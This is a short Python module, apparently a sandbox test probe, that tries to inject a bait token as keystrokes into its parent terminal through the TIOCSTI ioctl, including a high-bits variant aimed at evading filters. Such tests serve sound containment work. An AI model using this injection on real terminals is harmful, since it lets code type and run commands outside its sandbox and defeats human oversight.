"""Types into the terminal that it was started from."""

import fcntl
import os
import struct
import termios


def attack(bait, first):
    def typed(fd):
        for letter in bait["token"]:
            fcntl.ioctl(fd, termios.TIOCSTI, letter.encode())
        return "TIOCSTI"

    def typed_wide(fd):
        fcntl.ioctl(fd, 0x100000000 | termios.TIOCSTI, struct.pack("c", b"x"))
        return "TIOCSTI with high bits"

    def own():
        return typed(os.open("/dev/tty", os.O_RDWR))

    return first(
        [own, *(lambda fd=fd: typed(fd) for fd in (0, 1, 2)), *(lambda fd=fd: typed_wide(fd) for fd in (0, 1, 2))]
    )
